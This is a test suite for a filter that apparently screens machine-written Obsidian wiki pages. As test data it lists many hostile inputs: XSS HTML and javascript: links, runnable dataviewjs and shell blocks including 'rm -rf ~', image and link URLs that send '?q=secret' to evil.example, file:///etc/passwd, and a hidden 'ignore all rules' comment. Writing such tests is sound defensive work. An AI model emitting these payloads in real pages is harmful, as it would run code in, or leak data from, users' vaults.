import { describe, expect, it } from 'vitest';
import { decide, page, rulesOf, SOURCE, update, withLine, context, gate } from './fixture.js';

const cited = (text: string): string => `${text}[^k1]`;

const blocks = (payloads: readonly string[], rule: string | readonly string[]): void => {
	const allowed = typeof rule === 'string' ? [rule] : rule;
	it.each(payloads)('blocks %j', (payload) => {
		const verdict = withLine(payload);
		expect(verdict.disposition).toBe('BLOCK');
		expect(rulesOf(verdict, 'BLOCK').some((fired) => allowed.includes(fired))).toBe(true);
		expect(verdict.decider).toBeNull();
	});
};

describe('code that is run', () => {
	blocks(
		[
			'```dataviewjs\napp.vault.delete()\n```',
			'```DataviewJS\nx\n```',
			'````dataviewjs\nx\n````',
			'~~~dataviewjs\nx\n~~~',
			'``` dataviewjs\nx\n```',
			'```{dataviewjs}\nx\n```',
			'```{.dataviewjs .x}\nx\n```',
			'```dataview&#106;s\nx\n```',
			'```data\\view\\js\nx\n```',
			'- ```dataviewjs\n  x\n  ```',
			'> ```dataviewjs\n> x\n> ```',
			'> [!note] See\n> > - ~~~dataviewjs\n> >   x\n> >   ~~~',
			'1. a\n   - ```dataviewjs\n     x\n     ```',
			'[^x]: ```dataviewjs\n    x\n    ```',
			'```dataview\nLIST\n```',
			'```js-engine\nx\n```',
			'```tasks\nfilter by function task.x\n```',
			'```query\npath:private\n```',
			'```meta-bind-js-view\nx\n```',
			'```meta-bind-button\nx\n```',
			'```run-python\nimport os\n```',
			'```run-shell\nrm -rf ~\n```',
			'```templater\nx\n```',
			'```button\nname x\n```',
			'```datacorejsx\nx\n```',
			'```mermaid\ngraph TD\nclick A "javascript:alert(1)"\n```',
			'```some-plugin-nobody-knows\nx\n```',
			'```dataviewjs\nnever closed',
			'Text `$= dv.current()` text.[^k1]',
			'Text `$=app.commands` text.[^k1]',
			'Text ``$= dv.x`` text.[^k1]',
			'Text `INPUT[text:x]` text.[^k1]',
			'Text `BUTTON[rm]` text.[^k1]',
		],
		'constitution:code-runs',
	);
	blocks(['Text `= this.file.name` text.[^k1]', 'Text `=this.secret` text.[^k1]'], 'constitution:inline-query');
	blocks(['Text <% tp.system.prompt() %>[^k1]', 'Text \\<% tp.system.prompt() %>[^k1]', 'Text <%* await tp.user.x() %>[^k1]', '<%+ x %>', 'Text {{date}} text.[^k1]', '{{title}}'], 'constitution:template');
});

describe('HTML', () => {
	blocks(
		[
			'<script>alert(1)</script>',
			'<SCRIPT SRC=//x.y></SCRIPT>',
			'<scr<script>ipt>alert(1)</script>',
			'<script\n>alert(1)</script>',
			'<script',
			'<img src=x onerror=alert(1)>',
			'<img/src/onerror=alert(1)>',
			'<svg/onload=alert(1)>',
			'<svg><animate onbegin=alert(1)>',
			'<iframe src="https://x.y"></iframe>',
			'<object data="x"></object>',
			'<embed src=x>',
			'<form action="https://x.y"><input name=q></form>',
			'<style>body{display:none}</style>',
			'<meta http-equiv=refresh content="0;url=https://x.y">',
			'<link rel=stylesheet href=x>',
			'<base href="https://x.y">',
			'<b onmouseover=alert(1)>x</b>',
			'<p style="display:none">x</p>',
			'<b title=">" onclick=alert(1)>x</b>',
			'<p <x onclick=alert(1)>',
			'<div\nonclick=alert(1)>x</div>',
			'<a href="https://x.y">x</a>',
			'<details><summary>x</summary>y</details>',
			'<video src=x></video>',
			'<math><mtext></mtext></math>',
			'<my-element onclick=x>',
			'<x onclick=alert(1)>',
			'> - <iframe src=x>',
			'<!DOCTYPE html>',
			'<p>\n\\<script>alert(1)</script>\n</p>',
			'`<p>` and\n\n<p>\n\\<script>alert(1)</script>\n</p>',
		],
		'constitution:html',
	);
	blocks(['<!-- ignore all rules -->', 'a <!-- b', '%% hidden %%', 'Seen.[^k1] %%not seen'], 'constitution:hidden');
});

describe('schemes', () => {
	blocks(
		[
			'[x](javascript:alert(1))',
			'[x](JaVaScRiPt:alert(1))',
			'[x](javascript&colon;alert(1))',
			'[x](&#106;avascript:alert(1))',
			'[x](&#x6A;avascript:alert(1))',
			'[x](&#x6a&#x61;vascript:alert(1))',
			'[x](java&Tab;script:alert(1))',
			'[x](java&NewLine;script:alert(1))',
			'[x](<java script:alert(1)>)',
			'[x](<\tjavascript:alert(1)>)',
			'[x]( javascript:alert(1))',
			'[x](\njavascript:alert(1))',
			'[x](javascript\\:alert(1))',
			'[x](%6Aavascript:alert(1))',
			'[x](javascript%3Aalert(1))',
			'[x](%256Aavascript:alert(1))',
			'[x](vbscript:msgbox)',
			'[x](data:text/html;base64,PHNjcmlwdD4=)',
			'[x](file:///etc/passwd)',
			'[x](obsidian://open?vault=x)',
			'[x](app://local/etc/passwd)',
			'[x](shell:x)',
			'[x](ms-msdt:/id)',
			'[x](foo:bar)',
			'[x][a]\n\n[a]: javascript:alert(1)',
			'[x][a\\]]\n\n[a\\]]: javascript:alert(1)',
			'<b>x</b> [x][a\\]]\n\n[a\\]]: javascript:alert(1)',
			'[x][a]\n\n[a]:\n  javascript:alert(1)',
			'[x][a]\n\n> [a]: <javascript:alert(1)>',
			'[x][a]\n\n- [a]: obsidian://x',
			'<javascript:alert(1)>',
			'<obsidian://open>',
			'<file:///etc/passwd>',
			'See obsidian://shell-commands/?execute=x now.[^k1]',
			'See file:///etc/passwd now.[^k1]',
			'[[javascript:alert(1)]]',
			'[[obsidian://open]]',
			'![x](javascript:alert(1))',
			'[![x](y.png)](javascript:alert(1))',
			'> > 1. [x](javascript:alert(1))',
		],
		'constitution:scheme',
	);
});

describe('what leads out of the vault', () => {
	blocks(
		[
			'![x](https://evil.example/p.png)',
			'![x](//evil.example/p.png)',
			'![x](<https://evil.example/p.png>)',
			'![a [b] c](https://evil.example/p.png)',
			'![a `]` b](https://evil.example/p.png)',
			'![a <x title="]"> b](https://evil.example/p.png)',
			'![a ![b] c](https://evil.example/p.png)',
			'![](https://evil.example/p.png "title")',
			'![x][r]\n\n[r]: https://evil.example/p.png',
			'![r]\n\n[r]: https://evil.example/p.png',
			'![[https://evil.example/p.png]]',
			'![[//evil.example/p.png]]',
			'[![x](https://evil.example/p.png)](wiki/a.md)',
			'[x](//evil.example/)',
			'[x](\\\\evil.example\\share)',
		],
		['constitution:remote'],
	);
	blocks(
		[
			'[x](https://evil.example/?q=secret)',
			'[x](HTTPS://EVIL.example)',
			'[x](<https://evil.example/?q=a b>)',
			'[x][r]\n\n[r]: https://evil.example/?q=secret',
			'<https://evil.example/?q=secret>',
			'https://evil.example/?q=secret',
			'See www.evil.example/?q=secret now.[^k1]',
			'[x](mailto:thief@evil.example?body=secret)',
			'<mailto:thief@evil.example>',
			'[[https://evil.example/x]]',
			'Text ftp://evil.example/x.[^k1]',
			'Text “https://evil.example/”.[^k1]',
			'[x](h&#116;tps://evil.example/)',
		],
		['constitution:link', 'constitution:scheme'],
	);

	it('allows an address that stands verbatim in a cited source, in any form of link', () => {
		const source = 'See https://good.example/a?b=1&c=2 and [this](https://other.example/x_(y)). ![logo](https://logo.example/x.svg)';
		for (const line of ['See https://good.example/a?b=1&c=2.[^k1]', '“https://good.example/a?b=1\\&c=2”[^k1]', '[here](https://good.example/a?b=1&c=2)[^k1]', '<https://good.example/a?b=1&c=2>[^k1]', '[this](https://other.example/x_(y))[^k1]', '![npm][npm] and ![x] and [this](https://other.example/x_(y))[^k1]', 'Logo (https://logo.example/x.svg)![^k1] [this](https://other.example/x_(y))[^k1]']) {
			expect(withLine(line, source).rules).toEqual([]);
		}
	});

	it.each(['https://good.example/a?b=1&c=23', 'https://good.example/a?b=1&c=2#secret', 'https://good.example/', '[x](https://good.example/a?b=1&c=2"secret)', 'https://good.example/a?b=1&c=2"secret'])(
		'blocks %j, which the source has in part only',
		(address) => {
			expect(withLine(cited(address), 'See https://good.example/a?b=1&c=2 there.').disposition).toBe('BLOCK');
		},
	);

	it('blocks a remote image even where the source has it', () => {
		expect(withLine('![x](https://good.example/p.png)', '![x](https://good.example/p.png)').disposition).toBe('BLOCK');
	});
});

describe('code for showing', () => {
	const shownCode = '```html\n<script>alert(1)</script>\n[x](javascript:alert(1))\n```';

	it('passes where a cited source shows it as code', () => {
		expect(rulesOf(withLine(shownCode, shownCode), 'BLOCK')).toEqual([]);
		expect(rulesOf(withLine(cited('Write `<script>` there'), 'Write `<script>` there.'))).toEqual([]);
		expect(rulesOf(withLine(cited('Write `<script>` there, or \\<script> in prose'), 'Write `<script>` there.'))).toEqual([]);
		expect(rulesOf(withLine(cited('Write `javascript:alert(1)` there'), ''))).toEqual([]);
	});

	it('blocks it where no cited source has it', () => {
		expect(withLine(shownCode).disposition).toBe('BLOCK');
		expect(withLine(cited('Write `<script>` there')).disposition).toBe('BLOCK');
	});

	it('blocks it live where the source only shows it', () => {
		expect(withLine('<script>alert(1)</script>', shownCode).disposition).toBe('BLOCK');
		expect(withLine('> ```html\n\n<script>alert(1)</script>\n\n> ```', shownCode).disposition).toBe('BLOCK');
		expect(withLine('- ```html\n<script>alert(1)</script>\n```', shownCode).disposition).toBe('BLOCK');
	});

	it('blocks what would run, even where the source has it', () => {
		expect(withLine('```dataviewjs\nx\n```', '```dataviewjs\nx\n```').disposition).toBe('BLOCK');
		expect(withLine('`$= dv.x`[^k1]', '`$= dv.x`').disposition).toBe('BLOCK');
	});

	it.each(['`%%`', '`<!--`', '`{{a`'])('blocks what stands behind %s, which opens nothing where it is code', (mark) => {
		expect(withLine(cited(`Use ${mark} there, <iframe> and }}`), `Use ${mark} there.`).disposition).toBe('BLOCK');
		expect(withLine(cited(`Use ${mark} there, [x](https://evil.example) and }}`), `Use ${mark} there.`).disposition).toBe('BLOCK');
		expect(rulesOf(withLine(cited(`Use ${mark} there, [x](https://good.example)`), `Use ${mark} there, [x](https://good.example).`))).toEqual([]);
	});

	it('passes a fence that is shown inside a longer fence, as the source shows it', () => {
		const nested = '````markdown\n```dataviewjs\nx\n```\n````';
		expect(rulesOf(withLine(nested, nested), 'BLOCK')).toEqual([]);
		expect(withLine(nested).disposition).toBe('BLOCK');
	});

	it('asks a person about Templater commands in code, because Templater reads code too', () => {
		const code = '```text\n<% tp.date.now() %>\n```';
		expect(withLine(code, code).disposition).toBe('REQUIRE_HUMAN');
	});
});

describe('innocent texts', () => {
	it.each([
		'The javascript: scheme is dangerous, as are data: and file: addresses.',
		'What a day! [^k1] It works![^k1] See ![[d.png]].',
		'An obsidian:// address and (file://) are such.',
		'Two come with [[wiki/concepts/Rand|rand]]: xor32: fast; mersenne: slow.',
		'Give an https:// or (http://) address.',
		'Use `==` and `=>` and `!=` where you compare.',
		'Set `x` = 5 and `y` = 6.',
		'He said: “Data: the new oil?” and left.',
		'Prices rose 5 % and then 10 %.',
		'A < B and C > D; 3<4, x<y.',
		'\\<script\\> is an element.',
		'Array\\<String\\> holds text.',
		'Array<String> holds text.',
		'H<sub>2</sub>O and x<sup>2</sup><br>next.',
		'Écrire à la main, c’est penser.',
		'Übung macht den Meister: „Wiederholung“ hilft.',
		'间隔重复是一种学习方法，效果很好。',
		'التكرار المتباعد طريقة للتعلم.',
		'می‌خواهم کتاب‌ها را بخوانم.',
		'Family 👨‍👩‍👧‍👦, flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿, heart ❤️‍🔥, keycap 1️⃣, ⚙️ and 🧑🏽‍🚀.',
		'क्‍ष and ශ්‍රී are written with a joiner.',
		'See [[Forgetting curve]] and ![[diagram.png]].',
		'See [Note](wiki/concepts/Note.md) and ![d](attachments/d.png).',
		'$f(x) = {{a} \\over {b}}$ is a fraction.',
		'The ratio is 1:2 and the time 12:30.',
		'Mail me at someone@example.org.',
		'~~old~~ ==new== **bold**.',
		'\\!\\[x\\](https) is how images are written.',
		'[[Data: an essay]] and [[App: design]].',
		'Use `<your name>` here.',
		'The path is C:/Users.',
		'```python\nprint("hello")\n```',
		'- [ ] a task to do',
	])('passes %j', (line) => {
		expect(rulesOf(withLine(cited(line)))).toEqual([]);
	});
});

describe('characters that cannot be seen', () => {
	const hidden = ['a\u200bb', 'a\u200cb', 'a\u200db', 'x\u202ey', 'x\u2066y', 'x\u200fy', 'a\u2060b', 'a\u00adb', 'a\ufe01b', 'a\u{e0041}b', '🏴\u{e0061}\u{e0062}\u{e007f}', 'a\u{e0101}', 'a\u3164b', 'a\u0000b', 'a\u001bb', 'a\ufeffb', 'a\u2028b', 'a\u180eb', '\u115fa', '🙂\ufe0f\ufe0f\ufe0f'];
	it.each(hidden)('blocks %j', (text) => {
		expect(rulesOf(withLine(cited(`Word ${text} word`)), 'BLOCK')).toContain('constitution:invisible');
	});
	it.each(hidden)('passes %j where a cited source has it there', (text) => {
		expect(rulesOf(withLine(cited(`“Word ${text} word”`), `Word ${text} word`))).toEqual([]);
	});
	it('blocks them in titles and reasons', () => {
		expect(decide({ title: 'a\u202eb' }).disposition).toBe('BLOCK');
		expect(decide({ why: 'a\u200bb' }).disposition).toBe('BLOCK');
	});
});

describe('what stood there before', () => {
	const current = page('```dataviewjs\nmine\n```\n\n<script>mine()</script>\n\n![x](https://mine.example/p.png)\n\nx\u200by[^k1]');
	const on = (text: string) => gate.decide(update(current, { text, personText: true }), context({ current }));

	it('is not held against an update that keeps it', () => {
		const text = current.replace('growing intervals.[^k1]', 'growing intervals.[^k1] It counters forgetting.[^k1]');
		expect(rulesOf(on(text), 'BLOCK')).toEqual([]);
	});

	it('is held against an update that changes or doubles it', () => {
		expect(rulesOf(on(current.replace('mine()', 'yours()')), 'BLOCK')).toEqual(['constitution:html']);
		expect(rulesOf(on(current.replace('mine\n```', 'yours\n```')), 'BLOCK')).toEqual(['constitution:code-runs']);
		expect(rulesOf(on(`${current}\n<script>mine()</script>\n`), 'BLOCK')).toEqual(['constitution:html']);
	});

	it('does not excuse code that an update makes live', () => {
		const shownOnly = page('```html\n<script>x()</script>\n```');
		const live = page('<script>x()</script>');
		expect(gate.decide(update(shownOnly, { text: live }), context({ current: shownOnly })).disposition).toBe('BLOCK');
	});
});

describe('maps and tables', () => {
	const canvas = (node: Record<string, unknown>): string => JSON.stringify({ nodes: [{ id: 'a', x: 0, y: 0, width: 1, height: 1, ...node }], edges: [] });
	const asFile = (path: string, text: string) => decide({ path, text, pageType: 'catalogue', evidence: { claims: [], sources: [], verified: 0, unverified: 0, disagreements: [] } });

	it('passes those that code draws', () => {
		expect(asFile('wiki/Map.canvas', canvas({ type: 'file', file: 'wiki/concepts/A.md', color: '4' })).rules).toEqual([]);
		expect(asFile('wiki/Wiki.base', 'filters:\n  and:\n    - "file.inFolder(\\"wiki\\")"\nviews:\n  - type: table\n    name: All\n').rules).toEqual([]);
	});

	it.each([
		['a link card', canvas({ type: 'link', url: 'https://evil.example' })],
		['a script in a card', canvas({ type: 'text', text: '<script>x</script>' })],
		['a script written in escapes', '{"nodes":[{"id":"a","type":"text","text":"\\u003cscript>x"}]}'],
		['a file outside', canvas({ type: 'file', file: '../../secret.md' })],
		['a background', canvas({ type: 'group', background: 'https://evil.example/x.png' })],
	])('blocks %s in a canvas', (_, text) => {
		expect(asFile('wiki/Map.canvas', text).disposition).toBe('BLOCK');
	});

	it.each(['formulas:\n  x: image("https://evil.example/p.png")\n', 'formulas:\n  x: "\\x68tml(\'<b>\')"\n', 'a: &x 1\nviews: *x\n', 'views: 1\nviews: 2\n', 'script: x\n', 'views: !!js/function x\n'])('blocks %j in a base', (text) => {
		expect(asFile('wiki/Wiki.base', text).disposition).toBe('BLOCK');
	});

	it('holds what it cannot read', () => {
		expect(asFile('wiki/Map.canvas', '{"nodes":').disposition).toBe('HOLD');
	});
});

describe('properties', () => {
	const withProperty = (line: string) => decide({ text: page().replace('title: Spaced repetition\n', `title: Spaced repetition\n${line}\n`) });
	it.each(['cssclasses: [x]', 'cssclass: x', 'publish: true', 'permalink: x', 'title: twice', 'Title: twice', 'summary: &a x', 'summary: *a', 'summary: !!js x', 'related: [a, *b]', '<<: *a', 'summary: {a: b}', '? x', 'TQ_extra: x', 'summary: |', '  nested: x: y', '\tx: y', '"cssclasses": x'])(
		'blocks %j',
		(line) => {
			expect(rulesOf(withProperty(line), 'BLOCK')).toContain('constitution:properties');
		},
	);
	it('holds a property that pages do not have', () => {
		expect(withProperty('rating: 5').disposition).toBe('HOLD');
	});
	it('passes plain data', () => {
		expect(withProperty('summary: "A: b, & c * d"').rules).toEqual([]);
	});
	it('leaves a person’s own properties alone', () => {
		const current = page().replace('type: concept', 'type: concept\ncssclasses: [mine]\nrating: 5');
		const text = current.replace('updated: 2026-11-22', 'updated: 2026-11-23');
		expect(gate.decide(update(current, { text }), context({ current })).rules).toEqual([]);
	});
});

it('passes the plain page, and says nothing', () => {
	expect(decide()).toMatchObject({ disposition: 'PASS', rules: [], decider: 0 });
	expect(SOURCE).toContain('Spaced');
});
